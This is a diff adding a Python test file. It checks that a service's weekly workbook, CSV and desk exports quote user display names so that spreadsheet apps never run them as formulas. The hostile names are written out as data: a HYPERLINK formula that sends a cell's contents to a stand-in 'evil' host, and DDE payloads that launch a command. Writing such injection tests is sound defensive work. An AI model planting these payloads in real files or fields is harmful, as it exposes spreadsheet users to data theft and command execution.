@@ -1,0 +1,91 @@
+"""Every spreadsheet we hand out, read back as Excel would: a name someone typed never becomes a formula."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+import sqlalchemy as sa
+from openpyxl import Workbook, load_workbook
+
+from images import photo_jpeg
+from service.db import utcnow
+from service.models import User
+from service.spreadsheets import FORMULA_STARTS, append_row
+from service.weekly import Week, build_weekly_report
+from service.weekly_output import csv_text, workbook
+from test_desk_pages import staff_browser
+from test_weekly import week_of_cases  # noqa: F401  (the synthetic week 2026-W09, a fixture)
+
+HYPERLINK = '=HYPERLINK("http://evil/?"&A1,"x")'
+# display names as hostile people would set them: each starts a formula in Excel, LibreOffice or WPS
+HOSTILE = {"rider1": HYPERLINK, "rider2": "+1+cmd|' /C calc'!A0", "gw01": "@SUM(1+1)*cmd|' /C calc'!A0",
+           "gw02": "-2+3+cmd|' /C calc'!A0", "staff1": "\t=1+1"}
+
+
+@pytest.fixture
+def hostile_names(db):
+    """The demo people renamed as above for one test (the community is kept between tests: put names back)."""
+    people = {u.username: u for u in db.scalars(sa.select(User).where(User.username.in_(HOSTILE)))}
+    before = {name: user.display_name for name, user in people.items()}
+    for name, user in people.items():
+        user.display_name = HOSTILE[name]
+    db.commit()
+    yield HOSTILE
+    for name, user in people.items():
+        user.display_name = before[name]
+    db.commit()
+
+
+def assert_no_formula_text(value):
+    assert not (isinstance(value, str) and value.startswith(FORMULA_STARTS)), value
+
+
+def test_the_weekly_workbook_keeps_hostile_names_as_quoted_text(db, week_of_cases, hostile_names):  # noqa: F811
+    data = build_weekly_report(db, Week(2026, 9), "Asia/Shanghai", utcnow()).data
+    book = load_workbook(io.BytesIO(workbook(data)))
+    texts, numbers = [], []
+    for sheet in book.worksheets:
+        for row in sheet.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
+                assert_no_formula_text(cell.value)
+                if isinstance(cell.value, str):
+                    assert cell.data_type == "s"
+                    texts.append(cell.value)
+                elif isinstance(cell.value, (int, float)):
+                    numbers.append(cell.value)
+    assert "'" + HYPERLINK in texts  # the ranking's 姓名, shown as typed behind the quote
+    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in texts and "'-2+3+cmd|' /C calc'!A0" in texts  # 按处置人
+    assert numbers  # the ranking's counts and the hours overdue are still numbers
+
+
+def test_the_weekly_csv_keeps_hostile_names_as_quoted_text(db, week_of_cases, hostile_names):  # noqa: F811
+    data = build_weekly_report(db, Week(2026, 9), "Asia/Shanghai", utcnow()).data
+    rows = list(csv.reader(io.StringIO(csv_text(data).lstrip("\ufeff"))))
+    cells = [cell for row in rows for cell in row]
+    for cell in cells:
+        assert_no_formula_text(cell)
+    assert "'" + HYPERLINK in cells and "'+1+cmd|' /C calc'!A0" in cells
+
+
+def test_the_desk_export_keeps_hostile_names_as_quoted_text(app, rider, workers, hostile_names):
+    rider.report(photos=[photo_jpeg(seed=900)], lat="32.015", lon="120.855")
+    workers()
+    text = staff_browser(app).get("/desk/export.csv").get_data(as_text=True)
+    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff"))))
+    assert len(rows) == 2
+    for cell in rows[1]:
+        assert_no_formula_text(cell)
+    assert rows[1][10].startswith("'" + HYPERLINK) and rows[1][10].endswith("138****0001")
+    assert rows[1][8] == "32.015"  # a number stays a number
+
+
+def test_only_text_is_neutralised_and_negative_numbers_stay_numbers():
+    sheet = Workbook().active
+    append_row(sheet, ["=1+1", -5, -2.5, None, "#N/A", "\t@x", "plain", "-3"])
+    buf = io.BytesIO()
+    sheet.parent.save(buf)
+    cells = list(load_workbook(buf).active.iter_rows())[0]
+    assert [c.value for c in cells] == ["'=1+1", -5, -2.5, None, "#N/A", "'\t@x", "plain", "'-3"]
+    assert [c.data_type for c in cells] == ["s", "n", "n", "n", "s", "s", "s", "s"]
